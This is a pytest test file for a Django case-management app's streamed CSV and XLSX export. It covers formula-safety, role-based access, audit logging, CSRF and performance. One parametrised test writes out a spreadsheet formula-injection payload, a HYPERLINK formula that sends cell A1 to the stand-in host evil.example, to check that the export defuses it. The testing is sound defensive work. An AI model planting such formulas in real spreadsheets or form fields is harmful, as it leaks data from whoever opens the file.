"""Case export: CSV and XLSX, streamed, formula-safe, for case managers only, and logged."""

import csv
import io
import tracemalloc
from urllib.parse import urlencode

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry
from wagtail.users.models import UserProfile

from forms_app.models import Case, IntakeFormField
from forms_app.reports import export, spreadsheets
from tests.builders import copy_case, file_case, intake_form, set_answer
from tests.helpers import soup

pytestmark = pytest.mark.django_db

METADATA = [
    "reference",
    "case_type",
    "status",
    "language",
    "submitted",
    "last_activity",
    "assigned_to",
    "merit_score",
    "tags",
    "evidence_count",
]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def export_url(export_format, **params):
    """The download URL with the queue's selection in its query string (the request is a POST)."""
    url = reverse(f"forms_app_review:export_{export_format}")
    return f"{url}?{urlencode(params, doseq=True)}" if params else url


def download(client, export_format, **params):
    response = client.post(export_url(export_format, **params))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def without_marker(rows, headers):
    """The rows of a complete export: its last row must say so, with the number of cases."""
    *cases, marker = rows
    assert [cell for cell in marker if cell != ""] == [f"complete: {len(cases) - headers} cases"]
    return cases


def csv_rows(body):
    assert body.startswith("\ufeff".encode())
    return without_marker(list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))), headers=1)


def xlsx_rows(body):
    """Rows padded to the header's width (empty cells are not written, as in any spreadsheet)."""
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    rows = [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]
    width = len(rows[0])
    return without_marker([row + [""] * (width - len(row)) for row in rows], headers=2)


def source_keys(case_type):
    page = intake_form(case_type, "en")
    return list(IntakeFormField.objects.filter(page=page).order_by("sort_order").values_list("clean_name", flat=True))


def by_reference(rows, header):
    index = header.index("reference")
    return {row[index]: dict(zip(header, row, strict=False)) for row in rows}


def test_csv_has_a_column_per_question_in_form_order_and_a_row_per_case(login, case_manager, filed_cases):
    """CSV: metadata columns, then every question key of the exported forms in form order, one row per case."""
    response, body = download(login(case_manager), "csv")
    assert response.status_code == 200
    header, *rows = csv_rows(body)
    assert header[: len(METADATA)] == METADATA
    assert header[len(METADATA) : -1] == source_keys("account_closure") + [
        key for key in source_keys("investor") if key not in source_keys("account_closure")
    ]
    assert header[-1] == "other_answers"
    assert len(rows) == 3

    english, chinese, investor = filed_cases
    table = by_reference(rows, header)
    assert table[english.reference]["wallet_balance_frozen"] == "1000.50 CNY"
    assert table[chinese.reference]["wallet_balance_frozen"] == "250.25 CNY"
    assert table[chinese.reference]["language"] == "zh-hans"
    assert table[chinese.reference]["case_type"] == "account_closure"
    assert table[investor.reference]["wallet_balance_frozen"] == ""
    assert table[english.reference]["what_happened"].startswith("They summoned me")
    assert table[english.reference]["evidence_count"] == "0"


def test_csv_flattens_lists_dates_and_composite_answers(login, case_manager, filed_cases):
    """Lists are joined with "; ", date ranges are ISO intervals, composite answers read "key: value"."""
    case = filed_cases[0]
    answers = case.answers
    response, body = download(login(case_manager), "csv", ids=str(case.pk))
    header, row = csv_rows(body)
    values = dict(zip(header, row, strict=True))
    for key, question in case.questions_as_seen.items():
        kind = question["field_type"]
        if kind == "checkboxes":
            assert values[key] == "; ".join(answers[key])
        elif kind == "date_range":
            assert values[key] == "2024-01-10/2024-03-02"
        elif kind == "contact_preference":
            assert values[key] == "never: wechat, phone_86; safe: email, signal"
        elif kind == "attestation":
            assert values[key] == "confirmed: yes; full_name: 张三 Zhang San"
        elif kind in ("consent", "checkbox"):
            assert values[key] == "yes"


def test_xlsx_holds_the_same_cells_as_the_csv_with_a_row_of_question_labels(login, case_manager, filed_cases):
    """XLSX: keys, then the questions' wording, then exactly the CSV's rows (numbers as numbers)."""
    client = login(case_manager)
    _response, csv_body = download(client, "csv")
    response, body = download(client, "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    keys, labels, *rows = xlsx_rows(body)
    csv_header, *csv_data = csv_rows(csv_body)
    assert list(keys) == csv_header
    labels = dict(zip(keys, labels, strict=True))
    assert labels["reference"] == "Reference"
    english_field = IntakeFormField.objects.get(page=intake_form("account_closure", "en"), clean_name="what_happened")
    assert labels["what_happened"] == english_field.label
    assert [[str(value) for value in row] for row in rows] == csv_data
    evidence_column = keys.index("evidence_count")
    assert all(isinstance(row[evidence_column], int) for row in rows)


def test_xlsx_question_labels_follow_the_exporters_language(login, case_manager, filed_cases):
    """A Chinese-speaking case manager gets the questions' Chinese wording in the label row."""
    profile = UserProfile.get_for_user(case_manager)
    profile.preferred_language = "zh-hans"
    profile.save()
    response, body = download(login(case_manager), "xlsx")
    keys, labels, *_rows = xlsx_rows(body)
    chinese = IntakeFormField.objects.get(page=intake_form("account_closure", "zh-hans"), clean_name="what_happened")
    assert dict(zip(keys, labels, strict=True))["what_happened"] == chinese.label


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("start", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formula_like_answers_are_neutralised(login, case_manager, filed_cases, export_format, start):
    """Any cell starting with = + - @ tab or CR is prefixed with an apostrophe, so it is never a formula."""
    case = filed_cases[0]
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    set_answer(case, "what_happened", payload)
    set_answer(case, "wechat_id", start + "1+1")
    response, body = download(login(case_manager), export_format, ids=str(case.pk))
    if export_format == "csv":
        header, row = csv_rows(body)
    else:
        header, _labels, row = xlsx_rows(body)
        sheet = load_workbook(io.BytesIO(body)).active
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    values = dict(zip(header, row, strict=True))
    # XML turns a carriage return into a line break; what matters is the apostrophe in front.
    expected_start = "\n" if start == "\r" and export_format == "xlsx" else start
    assert values["what_happened"] == "'" + expected_start + payload[1:]
    assert values["wechat_id"] == "'" + expected_start + "1+1"
    assert all(not str(value).startswith(tuple(DANGEROUS)) for value in row)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_characters_illegal_in_xml_do_not_break_the_file(login, case_manager, filed_cases, export_format):
    """Control characters in an answer are dropped from XLSX, and the workbook still opens."""
    case = filed_cases[0]
    set_answer(case, "what_happened", "before\x00\x01\x0b\x1fafter <b>&amp;</b>")
    _response, body = download(login(case_manager), export_format, ids=str(case.pk))
    if export_format == "xlsx":
        header, _labels, row = xlsx_rows(body)
        assert dict(zip(header, row, strict=True))["what_happened"] == "beforeafter <b>&amp;</b>"
    else:
        header, row = csv_rows(body)
        assert dict(zip(header, row, strict=True))["what_happened"].endswith("after <b>&amp;</b>")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_only_case_managers_may_export(client, login, case_manager, reviewer, communications, export_format):
    """Reviewers (view only) and Communications staff get 403; anonymous visitors go to the login page."""
    file_case()
    url = reverse(f"forms_app_review:export_{export_format}")
    assert client.post(url).status_code == 302
    assert login(reviewer).post(url).status_code == 403
    assert login(communications).post(url).status_code == 403
    assert login(case_manager).post(url).status_code == 200
    assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION, user__in=[reviewer, communications]).exists()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_export_is_one_audit_entry_listing_what_was_delivered(login, case_manager, filed_cases, export_format):
    """One log entry per export names the exporter, the format, the cases chosen and the references
    written, and says the file was complete."""
    response, _body = download(login(case_manager), export_format, case_type="account_closure")
    entry = ModelLogEntry.objects.get(action="forms_app.case.export")
    assert entry.user_id == case_manager.pk
    assert entry.data["format"] == export_format
    assert entry.data["count"] == entry.data["sent"] == 2 and entry.data["complete"] is True
    assert sorted(entry.data["references"]) == sorted(case.reference for case in filed_cases[:2])


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_export_cut_short_has_no_complete_row_and_its_audit_entry_says_so(case_manager, monkeypatch, export_format):
    """When the stream stops early (the server closes it: timeout, dropped connection), the bytes
    sent carry no "complete" row and the audit entry records an incomplete export of fewer cases."""
    monkeypatch.setattr(export, "CHUNK_SIZE", 5)
    monkeypatch.setattr(spreadsheets, "FLUSH_SIZE", 512)
    copy_case(file_case(), 39)
    # The view itself, as a WSGI server calls it (the test client wraps streams in its own closer).
    request = RequestFactory().post(reverse(f"forms_app_review:export_{export_format}"))
    request.user = case_manager
    response = export.export_view(request, export_format)
    stream = iter(response.streaming_content)
    received = next(stream) + (next(stream) if export_format == "csv" else b"")
    # What the server does when it gives up on a response: close it. (Keep request_finished from
    # closing the test's database connection, which holds its transaction, as the test client does.)
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert b"complete:" not in received
    entry = ModelLogEntry.objects.get(action="forms_app.case.export")
    assert entry.data["count"] == 40 and entry.data["complete"] is False
    assert entry.data["sent"] < 40 and len(entry.data["references"]) == entry.data["sent"]


def test_response_is_an_uncached_attachment_named_by_date(login, case_manager, filed_cases):
    """The download is a streamed attachment, never cached, never sniffed."""
    for export_format in ("csv", "xlsx"):
        response, _body = download(login(case_manager), export_format)
        assert response.streaming
        assert response["Content-Disposition"].startswith('attachment; filename="cases-')
        assert response["Content-Disposition"].endswith(f'.{export_format}"')
        assert "no-store" in response["Cache-Control"]
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_the_number_of_cases(login, case_manager, export_format):
    """Exporting 50 cases takes as many queries as exporting 5 (cases are read in chunks, not one by one)."""
    client = login(case_manager)
    original = file_case()
    client.post(reverse(f"forms_app_review:export_{export_format}"))  # warm the session and caches

    def queries_for_export():
        with CaptureQueriesContext(connection) as queries:
            response, body = download(client, export_format)
        assert response.streaming
        return len(queries), body

    copy_case(original, 4)
    few, _body = queries_for_export()
    copy_case(original, 45)
    many, _body = queries_for_export()
    assert Case.objects.count() == 50
    assert many == few


def test_the_queues_filters_and_ticked_cases_choose_what_is_exported(login, case_manager, filed_cases):
    """case_type, language, status, dates and ids narrow the export exactly as in the queue."""
    client = login(case_manager)
    english, chinese, investor = filed_cases

    def references(**params):
        response, body = download(client, "csv", **params)
        assert response.status_code == 200, body
        header, *rows = csv_rows(body)
        return {row[0] for row in rows}

    assert references(case_type="investor") == {investor.reference}
    assert references(case_type=["investor", "account_closure"]) == {c.reference for c in filed_cases}
    assert references(language="zh-hans") == {chinese.reference}
    assert references(ids=f"{english.pk},{investor.pk}") == {english.reference, investor.reference}
    assert references(status="closed") == set()
    today = english.submitted_at.date().isoformat()
    assert references(submitted_from=today, submitted_to=today) == {c.reference for c in filed_cases}
    assert references(submitted_from="2000-01-01", submitted_to="2000-01-02") == set()
    assert references(submitted_from=today, status="new") == {c.reference for c in filed_cases}


def test_the_queues_export_page_links_to_files_of_exactly_its_selection(login, case_manager, filed_cases):
    """From the queue's Export page (its filters, or ticked id=s) both download links export that selection."""
    client = login(case_manager)
    english, chinese, investor = filed_cases

    def exported(selection):
        page = client.get(reverse("forms_app_review:export"), selection)
        assert page.status_code == 200
        links = {
            form["action"].split("?")[0]: form["action"]
            for form in soup(page).select("form[method=post][action]")
            if "/export/csv/" in form["action"] or "/export/xlsx/" in form["action"]
        }
        csv_link = links[reverse("forms_app_review:export_csv")]
        xlsx_link = links[reverse("forms_app_review:export_xlsx")]
        _header, *rows = csv_rows(b"".join(client.post(csv_link).streaming_content))
        _keys, _labels, *sheet_rows = xlsx_rows(b"".join(client.post(xlsx_link).streaming_content))
        assert [row[0] for row in sheet_rows] == [row[0] for row in rows]
        return {row[0] for row in rows}

    assert exported({"case_type": "account_closure", "language": "zh-hans"}) == {chinese.reference}
    assert exported({"id": [english.pk, investor.pk]}) == {english.reference, investor.reference}


def test_an_unknown_or_invalid_filter_is_refused_rather_than_ignored(login, case_manager, filed_cases):
    """A filter the export cannot apply gives 400, never a larger export than was asked for."""
    client = login(case_manager)
    assert download(client, "csv", colour="blue")[0].status_code == 400
    assert download(client, "csv", case_type="nonsense")[0].status_code == 400
    assert download(client, "xlsx", ids="1,two")[0].status_code == 400
    assert download(client, "xlsx", submitted_from="last tuesday")[0].status_code == 400
    assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION).exists()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_memory_does_not_grow_with_the_number_of_cases(login, case_manager, monkeypatch, export_format):
    """Streaming 200 cases needs no more memory than streaming 20: only one chunk is held at a time."""
    monkeypatch.setattr(export, "CHUNK_SIZE", 10)
    monkeypatch.setattr(spreadsheets, "FLUSH_SIZE", 2048)
    client = login(case_manager)
    original = file_case()

    def peak_while_streaming():
        response = client.post(reverse(f"forms_app_review:export_{export_format}"))
        tracemalloc.start()
        try:
            size = sum(len(chunk) for chunk in response.streaming_content)
            return tracemalloc.get_traced_memory()[1], size
        finally:
            tracemalloc.stop()

    copy_case(original, 19)
    small_peak, small_size = peak_while_streaming()
    copy_case(original, 180)
    large_peak, large_size = peak_while_streaming()
    assert large_size > 3 * small_size  # (XLSX is deflated: copies compress well)
    assert large_peak < small_peak * 1.5


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_download_needs_a_post_with_the_csrf_token(case_manager, export_format):
    """A GET (a cross-site link or image) starts no download and writes no audit entry; a POST without
    the confirmation page's CSRF token is refused; with it, the file comes."""
    from django.test import Client

    file_case()
    client = Client(enforce_csrf_checks=True)
    client.force_login(case_manager)
    url = reverse(f"forms_app_review:export_{export_format}")
    assert client.get(url).status_code == 405
    assert client.post(url).status_code == 403
    assert not ModelLogEntry.objects.filter(action=export.EXPORT_ACTION).exists()
    page = client.get(reverse("forms_app_review:export"))
    form = soup(page).select_one(f"form[action^='{url}']")
    token = form.select_one("input[name=csrfmiddlewaretoken]")["value"]
    assert client.post(form["action"], {"csrfmiddlewaretoken": token}).status_code == 200


def test_xlsx_rows_write_each_cell_as_xlsx_cell_does():
    """The inlined row writer (an export's plain rows) neutralises formulas, escapes markup, keeps
    line breaks, cuts overlong text and leaves out empty cells exactly as the per-cell writer does."""
    values = ["=1+2", "plain 中文", "", 7, "a & <b>", "line\r\nbreak", "-3", True, "x" * 40000, "\x00@sum", None]
    values.append(" edge ")
    row = spreadsheets.xlsx_row(5, values)
    letters = [spreadsheets.column_letter(index) for index in range(len(values))]
    cells = [spreadsheets.xlsx_cell(f"{letter}5", value) for letter, value in zip(letters, values, strict=True)]
    assert row == '<row r="5">' + "".join(cells) + "</row>"
    assert "<t>'=1+2</t>" in row and "<t>'-3</t>" in row
    assert '<t xml:space="preserve"> edge </t>' in row  # only where a spreadsheet would trim
    assert "a &amp; &lt;b&gt;" in row and "line\nbreak" in row and "'@sum" in row
    assert '<c r="C5"' not in row and '<c r="D5"><v>7</v></c>' in row


def test_the_xlsx_reads_and_opens_each_case_once(login, case_manager, filed_cases):
    """The transactions sheet is gathered while the cases sheet is written: one read of the sealed
    answers for the whole workbook, not a second pass decrypting every investor case again."""
    client = login(case_manager)
    with CaptureQueriesContext(connection) as queries:
        response, _body = download(client, "xlsx")
    assert response.status_code == 200
    sql = [query["sql"] for query in queries]
    reads = [text for text in sql if "sealed_answers" in text and "forms_app_case" in text]
    assert len(reads) == 1, reads


def test_a_row_buffer_gives_back_its_rows_in_order_once():
    buffer = spreadsheets.RowBuffer()
    rows = [["WC-AAAA-BBBB", "investor", f"买入 {number}", number, "12.50", None] for number in range(5000)]
    for row in rows:
        buffer.add(row)
    assert list(buffer) == rows
    assert list(buffer) == []
